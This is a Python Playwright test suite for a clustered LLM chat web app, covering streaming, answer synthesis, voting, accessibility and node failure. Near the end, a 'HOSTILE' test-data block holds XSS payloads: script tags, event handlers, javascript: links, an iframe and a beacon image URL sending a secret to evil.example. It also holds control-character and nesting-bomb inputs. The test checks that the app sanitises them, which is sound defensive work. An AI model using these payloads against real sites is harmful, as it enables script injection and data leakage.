"""Conversations in a browser, and answers as they are written, at real nodes whose LLMs write what the test says."""

from __future__ import annotations

import signal
from collections.abc import Iterator
from typing import Any, NamedTuple

import pytest
from openai import OpenAI
from playwright.sync_api import APIResponse, Locator, Page, Route, expect

from server.transfer import parse
from tests.cluster.harness import until
from tests.web.browsing import Site, Surf, site
from tests.web.writing_llm import WritingLlm, writing_llm

NODES = (1, 2, 3)
WHY: list[Any] = [{"role": "user", "content": "Why?"}]


class Talk(NamedTuple):
    site: Site
    llm: WritingLlm

    def client(self, node: int) -> OpenAI:
        return OpenAI(
            api_key=self.site.key, base_url=f"http://127.0.0.1:{self.site.port + node}/v1", max_retries=0, timeout=30
        )


@pytest.fixture(scope="module")
def talk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Talk]:
    with writing_llm() as llm, site(tmp_path_factory.mktemp("talk"), len(NODES), llm.llm) as running:
        yield Talk(running, llm)


def answer_of(page: Page, who: str) -> Locator:
    """To the last question."""
    return page.locator(".turn").last.get_by_label(f"What {who} says", exact=True)


def test_openais_client_gets_words_before_the_answer_is_complete(talk: Talk) -> None:
    """Each word is awaited before the LLM writes the next one: none of this can pass with whole answers."""
    writing = talk.llm.question("Why?")
    stream = talk.client(1).chat.completions.create(model="node-3", messages=WHY, stream=True)
    text = ""
    for word in ("Because", " of", " it"):
        writing.writes(3, word)
        expected = text + word
        while text != expected:
            text += next(stream).choices[0].delta.content or ""
    writing.ends(3, ".")
    rest = [choice for chunk in stream for choice in chunk.choices]
    text += "".join(choice.delta.content or "" for choice in rest)
    assert text == "Because of it." and rest[-1].finish_reason == "stop"


def test_openais_client_learns_that_what_it_was_sent_does_not_stand(talk: Talk) -> None:
    writing = talk.llm.question("Why not?")
    header = {"Idempotency-Key": "does-not-stand"}
    stream = talk.client(3).responses.create(model="node-2", input="Why not?", stream=True, extra_headers=header)
    writing.writes(2, "Because")
    assert any(event.type == "response.output_text.delta" and event.delta == "Because" for event in stream)
    writing.breaks_off(2)
    writing.ends(2, "No.")  # asked again
    last = list(stream)[-1]
    assert last.type == "error" and "node 2 began again with something else" in last.message
    again = talk.client(3).responses.create(model="node-2", input="Why not?", extra_headers=header)
    assert again.output_text == "No.", "the answer is there for whoever asks again"


def test_ask_see_it_written_and_choose(talk: Talk, surf: Surf) -> None:
    """By keyboard alone, in one page; another page, at another node, sees the same."""
    writing = talk.llm.question("How?")
    page = surf.page(talk.site.address("conversations"))
    other = surf.page(talk.site.address("conversations", node=2))
    page.get_by_label("Name of a new conversation").press_sequentially("by-hand")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="by-hand")).to_be_visible()
    other.get_by_role("link", name="by-hand").click()
    page.get_by_label("Question", exact=True).press_sequentially("How?")
    page.keyboard.press("Enter")
    writing.writes(2, "With **care")
    for one in (page, other):
        expect(answer_of(one, "Node 2")).to_contain_text("With")
        expect(one.get_by_label("Node 3", exact=True)).to_contain_text("thinking")
    writing.ends(2, "**.")
    expect(answer_of(other, "Node 2").locator("strong")).to_have_text("care")
    other.reload()
    writing.writes(3, "Slowly, ")
    expect(answer_of(other, "Node 3")).to_have_text("Slowly,")
    expect(answer_of(other, "Node 2")).to_have_text("With care.")
    writing.ends(3, "and twice.")
    expect(answer_of(other, "Node 3")).to_have_text("Slowly, and twice.")
    page.get_by_role("button", name="Choose Node 3").focus()
    page.keyboard.press("Enter")
    for one in (page, other):
        expect(one.locator(".answers").get_by_label("Node 3", exact=True)).to_contain_text("chosen")
        expect(one.get_by_label("Question", exact=True)).to_be_enabled()
    assert page.evaluate("document.activeElement.tagName") == "ARTICLE", "the keyboard goes on from there"
    expect(page.locator("[aria-live]")).to_have_text("The answer of node 3 was chosen.")
    page.get_by_text("More").click()
    page.get_by_label("Nodes choose").click()  # it follows the cluster, which may say what it said before for a moment
    expect(page.get_by_label("Nodes choose")).to_be_checked()
    expect(other.get_by_text("The nodes choose by themselves.")).to_be_visible()
    other.get_by_label("Question", exact=True).fill("By yourselves?")
    other.keyboard.press("Enter")
    for one in (page, other):
        expect(one.locator(".turn").last.locator(".answers .chosen")).to_contain_text("says: By yourselves?")
    page.get_by_label("Nodes choose").click()
    expect(page.get_by_label("Nodes choose")).not_to_be_checked()
    expect(other.get_by_text("The nodes choose by themselves.")).to_have_count(0)


def test_one_answer_is_made_out_of_the_others(talk: Talk, surf: Surf) -> None:
    asked, made = talk.llm.question("Whither?"), talk.llm.synthesis("Whither?")
    talk.site.call("/api/create", {"context": "made"}, 1)
    page = surf.page(talk.site.address("conversations", node=1))
    page.get_by_role("link", name="made").click()
    page.get_by_label("Question", exact=True).fill("Whither?")
    page.keyboard.press("Enter")
    asked.ends(1, "North.")
    expect(answer_of(page, "Node 1")).to_have_text("North.")
    make = page.get_by_role("button", name="Make one out of them")
    expect(make).to_have_count(0)
    asked.ends(2, "West.")
    make.click()
    expect(page.get_by_text("The leader makes one answer out of 1, 2.")).to_be_visible()
    expect(make).to_have_count(0)
    for node in NODES:
        made.writes(node, "North-")
    expect(answer_of(page, "Synthesis")).to_have_text("North-")
    expect(page.get_by_label("Synthesis", exact=True)).to_contain_text("writing")
    for node in NODES:
        made.ends(node, "west.")
    expect(answer_of(page, "Synthesis")).to_have_text("North-west.")
    expect(page.get_by_label("Synthesis", exact=True).locator(".facts")).to_contain_text("out of 1, 2")
    expect(make).to_have_count(0)
    page.get_by_label("Hide names").check()
    expect(page.locator(".turn h4").filter(has_text="Node")).to_have_count(0)
    page.get_by_label("Hide names").uncheck()
    for node in NODES * 3:  # an LLM is tried three times
        made.breaks_off(node)
    page.get_by_role("button", name="Have another synthesis written").click()
    expect(page.get_by_role("alert")).to_contain_text("There is no answer out of the others: ")
    expect(answer_of(page, "Synthesis")).to_have_text("North-west.")
    page.get_by_role("button", name="Choose Synthesis").click()
    expect(page.locator(".answers").get_by_label("Synthesis", exact=True)).to_contain_text("chosen")
    expect(page.locator("[aria-live]")).to_have_text("The synthesis was chosen.")


def test_a_user_says_which_node_makes_one_answer_out_of_the_others(talk: Talk, surf: Surf) -> None:
    asked, made = talk.llm.question("Whence?"), talk.llm.synthesis("Whence?")
    talk.site.call("/api/create", {"context": "by-whom"}, 1)
    page = surf.page(talk.site.address("conversations", node=1))
    page.get_by_role("link", name="by-whom").click()
    page.get_by_label("Question", exact=True).fill("Whence?")
    page.keyboard.press("Enter")
    for node in NODES[:2]:
        asked.ends(node, f"From {node}.")
    writer = page.get_by_label("Who writes the synthesis")
    expect(writer.locator("option")).to_have_text(["the leader", "node 1", "node 2", "node 3"])
    writer.select_option("node 2")
    asked.ends(3, "From 3.")
    expect(answer_of(page, "Node 3")).to_have_text("From 3.")
    expect(writer).to_have_value("2")
    writer.press("Shift+Tab")  # by keyboard alone, from the field to its button
    page.keyboard.press("Enter")
    expect(page.get_by_text("Node 2 makes one answer out of 1, 2, 3.")).to_be_visible()
    expect(writer).to_have_count(0)
    synthesis = page.get_by_label("Synthesis", exact=True)
    made.ends(2, "From all.")  # no other LLM writes anything
    expect(answer_of(page, "Synthesis")).to_have_text("From all.")
    expect(synthesis.locator(".facts")).to_contain_text("by node 2, out of 1, 2, 3")
    synthesis.get_by_label("Who writes the synthesis").select_option("node 3")
    page.get_by_role("button", name="Have another synthesis written").click()
    made.ends(3, "From everywhere.")
    expect(answer_of(page, "Synthesis")).to_have_text("From everywhere.")
    expect(synthesis.locator(".facts")).to_contain_text("by node 3, out of 1, 2, 3")
    for width in (1600, 390):
        page.set_viewport_size({"width": width, "height": 844})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
    page.get_by_role("button", name="Cancel").click()


def test_the_nodes_choose_names_are_hidden_and_errors_are_told(talk: Talk, surf: Surf) -> None:
    talk.site.call("/api/create", {"context": "votes"}, 1)
    page = surf.page(talk.site.address("conversations", node=1))
    page.get_by_role("link", name="votes").click()
    page.get_by_label("Hide names").check()
    page.get_by_label("Question", exact=True).fill("Who?")
    page.get_by_role("button", name="Ask all nodes").click()
    expect(page.get_by_role("button", name="Choose Answer C")).to_be_visible()
    expect(page.locator(".turn h4").filter(has_text="Node")).to_have_count(0)
    expect(page.locator(".facts").first).to_be_empty()
    page.get_by_role("button", name="Let the nodes choose").click()
    expect(page.locator(".answers .chosen")).to_be_visible()
    page.get_by_text("The nodes' votes (3)").click()
    expect(page.locator(".votes li")).to_have_count(3)
    expect(page.locator(".answers h4")).to_contain_text("Node")
    surf.allowed = ("400",)
    page.get_by_label("Question", exact=True).fill("x" * 140_000)
    page.get_by_role("button", name="Ask the leader").click()
    expect(page.get_by_role("alert")).to_contain_text("too long")
    assert len(page.get_by_label("Question", exact=True).input_value()) == 140_000, "and nothing typed is lost"
    page.get_by_label("Question", exact=True).fill("Which?")
    page.get_by_role("button", name="Ask the leader").click()
    expect(page.locator(".turn").last.locator(".answers .chosen")).to_contain_text("says: Which?")
    other = talk.llm.question("Which?")
    page.get_by_role("button", name="Another answer").click()
    expect(page.get_by_text("The leader is asked for another answer.")).to_be_visible()
    expect(page.locator(".turn").last.locator(".answers .chosen")).to_contain_text("says: Which?")
    for node in NODES:
        other.ends(node, "Which one? This one.")
    expect(page.locator(".turn").last.locator(".answers .chosen")).to_contain_text("This one.")
    writing = talk.llm.question("Again?")
    page.get_by_label("Hide names").uncheck()
    page.get_by_label("Question", exact=True).fill("Again?")
    page.keyboard.press("Enter")
    for text in ("First.", "Second."):
        writing.ends(1, text)
        expect(answer_of(page, "Node 1")).to_have_text(text)
        page.get_by_role("button", name="Ask Node 1 again").click()
        expect(page.get_by_role("button", name="Ask Node 1 again")).to_have_count(0)
    page.get_by_role("button", name="Cancel").click()
    expect(page.get_by_text("This question was cancelled.")).to_be_visible()
    with page.expect_download() as saved:
        page.get_by_text("More").click()
        page.get_by_role("button", name="Save as JSON").click()
    wanted = parse(saved.value.path().read_bytes(), "again")
    assert wanted.turns == 3 and not wanted.given_up, "it can be imported"
    page.get_by_role("button", name="Title").click()
    page.get_by_label("Title").fill("Whose <i>answer</i>?")
    page.keyboard.press("Enter")
    expect(page.get_by_text("Whose <i>answer</i>?")).to_have_count(2)
    page.get_by_text("More").click()
    page.get_by_role("button", name="System prompt").click()
    page.get_by_label("System prompt").fill("Be <b>brief</b>.")
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.get_by_text("The LLMs are told: Be <b>brief</b>.")).to_be_visible()
    page.get_by_label("Search conversations").fill("which?")
    expect(page.locator(".names li")).to_have_count(1)
    expect(page.locator(".names mark").first).to_have_text("Which", ignore_case=True)
    page.get_by_label("Search conversations").fill("")
    for button, field, name in (("Fork", "Name", "branch"), ("Rename", "New name", "twig")):
        page.get_by_text("More").click()
        page.get_by_role("button", name=button, exact=True).click()
        page.get_by_role("dialog").get_by_label(field, exact=True).fill(name)
        if button == "Fork":
            page.get_by_label("Up to question").fill("1")
        page.keyboard.press("Enter")
        expect(page.get_by_role("heading", name=name)).to_be_visible()
        expect(page.locator(".turn")).to_have_count(1)
        expect(page.get_by_role("link", name=name)).to_be_visible()
    expect(page.get_by_role("link", name="branch")).to_have_count(0)
    page.get_by_role("link", name="votes").click()
    expect(page.locator(".turn")).to_have_count(3)
    page.get_by_text("More").click()
    page.get_by_role("button", name="Delete").click()
    page.get_by_role("button", name="Delete it").click()
    expect(page.get_by_role("alert")).to_have_text("This conversation was deleted.")
    expect(page.get_by_role("link", name="votes")).to_have_count(0)
    page.get_by_role("button", name="Bring it back").click()
    expect(page.locator(".turn")).to_have_count(3)
    expect(page.get_by_role("link", name="votes")).to_be_visible()


def test_what_is_created_while_the_list_is_read_stays_in_it(talk: Talk, surf: Surf) -> None:
    talk.site.call("/api/create", {"context": "there-before"}, 1)
    page = surf.page(talk.site.address("conversations"))
    link = page.get_by_role("link", name="there-before")
    expect(link).to_be_visible()
    read: list[tuple[Route, APIResponse]] = []

    def is_read() -> bool:
        page.wait_for_timeout(20)  # in which routes are called
        return bool(read)

    page.route("**/v1/conversations?*", lambda route: read.append((route, route.fetch())))
    page.reload()
    until(is_read)
    talk.site.call("/api/create", {"context": "created-meanwhile"}, 1)
    expect(page.get_by_role("link", name="created-meanwhile")).to_be_visible()
    for route, response in read:
        route.fulfill(response=response)
    expect(link).to_be_visible()
    assert page.get_by_role("link", name="created-meanwhile").is_visible()


def test_a_watcher_is_offered_nothing_to_change(talk: Talk, surf: Surf) -> None:
    talk.site.call("/api/create", {"context": "watched"}, 1)
    page = surf.page(talk.site.address("conversations", talk.site.read_key, node=2), 390, 844)
    page.get_by_role("link", name="watched").click()
    expect(page.get_by_role("heading", name="watched")).to_be_visible()
    assert page.get_by_role("textbox").count() == 0 and page.get_by_role("button").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    expect(page.get_by_role("link", name="watched")).to_be_hidden()
    page.get_by_role("link", name="All").click()
    expect(page.get_by_role("link", name="watched")).to_be_visible()
    assert page.get_by_role("textbox").count() == 0 and page.get_by_role("button").count() == 0


MARKDOWN = """# Title
One *line* of **bold _and_ more**, `a * b` and ~~gone~~: 2 * 3 * 4, snake_case_name.

- one
  - two
    1. three
- four

7. seven

> quoted
> - list

| a | b |
|---|:-:|
| 1 | `|` |

```python
x = "<b>"
```
[link](https://example.org/a_(b)) https://example.org/x. ***both*** \\*no\\*"""
SHOWN = """async (text) => {
    const { show } = await import("/page/conversation/markdown.js")
    const [whole, grown] = [document.createElement("div"), document.createElement("div")]
    show(whole, text)
    for (let end = 0; end <= text.length; end += 1) show(grown, text.slice(0, end))
    return [whole.innerHTML, grown.innerHTML]
}"""


def test_markdown_grows_into_what_it_is_as_a_whole(talk: Talk, surf: Surf) -> None:
    page = surf.page(talk.site.address("conversations", node=1))
    whole, grown = page.evaluate(SHOWN, MARKDOWN)
    assert grown == whole
    for part in (
        "<h4>Title</h4>", "<em>line</em>", "<strong>bold <em>and</em> more</strong>", "<code>a * b</code>",
        "<del>gone</del>: 2 * 3 * 4, snake_case_name.", "<li>one<ul><li>two<ol><li>three",
        '<ol start="7"><li>seven</li></ol>', "<blockquote><p>quoted</p><ul><li>list</li></ul></blockquote>",
        "<th>b</th>", '<code>x = "&lt;b&gt;"</code>', "*no*",
    ):
        assert part in whole, (part, whole)


HOSTILE = {
    1: "<script>window.hacked=1</script><img src=x onerror=window.hacked=1><iframe src='https://evil.example/'></iframe>"
       "<svg onload=window.hacked=1><style>*{display:none}</style><a href=javascript:window.hacked=1>x</a>\n\n"
       "![beacon](https://evil.example/pixel.png?secret=1) ![x](data:text/html,<script>1</script>) "
       "[a](javascript:alert(1)) [b](https://good.example@evil.example/) [good.example](https://evil.example/x) "
       "[c](data:text/html,1) [d](JaVaScRiPt:alert(1)) <https://evil.example/auto> [e](//evil.example/y)",
    2: "\u202egnp.elif \u2066hidden\u2069 \x1b[2J\x1b]0;title\x07 e\u0301" + "\u0301" * 500 + "\n" + "W" * 60_000,
    3: "\n".join("  " * depth + "- item" for depth in range(180)) + "\n" + "> " * 3000 + "deep\n" + "- " * 3000 + "\n"
       + "*_~`[" * 2000 + "|a" * 1000 + "\n|-" * 1000 + "\n# " + "![" * 1000 + "**" * 1000,
}
"""Markup that would run or load something; characters that reorder, control and pile up, and 64 KB without a space;
nesting without end."""


FOUND = """() => ({
    hacked: window.hacked ?? null, odd: document.querySelectorAll(
        "main :is(script, img, iframe, svg, style, object, embed, form:not(.create, .composer))").length,
    handlers: [...document.querySelectorAll("main *")].filter(
        (one) => [...one.attributes].some(({ name }) => name.startsWith("on"))).length,
    links: [...document.querySelectorAll(".answer a")].map((a) => [a.protocol, a.rel, a.parentElement.textContent]),
    elements: document.querySelectorAll("*").length,
})"""


def test_hostile_answers_are_text(talk: Talk, surf: Surf) -> None:
    question = "Attack!<script>window.hacked=1</script>"
    writing = talk.llm.question(question)
    talk.site.call("/api/create", {"context": "hostile"}, 1)
    page = surf.page(talk.site.address("conversations", node=1))
    page.on("dialog", lambda dialog: surf.errors.append(f"a dialog: {dialog.message}"))
    page.get_by_role("link", name="hostile").click()
    page.get_by_label("Question", exact=True).fill(question)
    page.keyboard.press("Enter")
    for node, text in HOSTILE.items():
        writing.writes(node, text[: len(text) // 2])
    for node in HOSTILE:
        expect(page.get_by_label(f"Node {node}", exact=True)).to_contain_text("writing")
    for node, text in HOSTILE.items():
        writing.ends(node, text[len(text) // 2 :])
    for node in HOSTILE:
        expect(page.get_by_role("button", name=f"Choose Node {node}")).to_be_visible()
    found = page.evaluate(FOUND)
    assert (found["hacked"], found["odd"], found["handlers"]) == (None, 0, 0) and found["elements"] < 20_000
    assert found["links"] and all(protocol == "https:" and "noopener" in rel for protocol, rel, _ in found["links"])
    assert any("https://evil.example/x" in text for *_, text in found["links"]), "a link says where it leads"
    second = page.get_by_label("What Node 2 says", exact=True).inner_text()
    assert "\\u{202e}" in second and "^[" in second and "\x1b" not in second
    for width in (1600, 390):
        page.set_viewport_size({"width": width, "height": 844})
        assert page.evaluate("document.documentElement.scrollWidth") <= width, "nothing makes the page wider"
    page.get_by_role("button", name="Choose Node 1").click()
    expect(page.locator(".answers .chosen")).to_contain_text("<script>window.hacked=1</script>")


def test_a_node_that_dies_while_an_answer_is_written(talk: Talk, surf: Surf) -> None:
    writing = talk.llm.question("When?")
    talk.site.call("/api/create", {"context": "dying"}, 1)
    page = surf.page(talk.site.address("conversations", node=3))
    page.get_by_role("link", name="dying").click()
    page.get_by_label("Question", exact=True).fill("When?")
    page.keyboard.press("Enter")
    writing.writes(1, "Tomo")
    expect(answer_of(page, "Node 1")).to_have_text("Tomo")
    surf.allowed = ("ERR_", "Failed to load resource")
    victim = talk.site.cluster.nodes[3]
    victim.signal(signal.SIGKILL)
    victim.popen.wait(20)
    expect(page.get_by_text("this page speaks to node 1 now")).to_be_visible()
    writing.writes(1, "rrow")
    expect(answer_of(page, "Node 1")).to_have_text("Tomorrow")
    writing.ends(1, ".")
    page.get_by_role("button", name="Choose Node 1").click()
    expect(page.locator(".answers .chosen")).to_contain_text("Tomorrow.")
    talk.site.cluster.start([3])
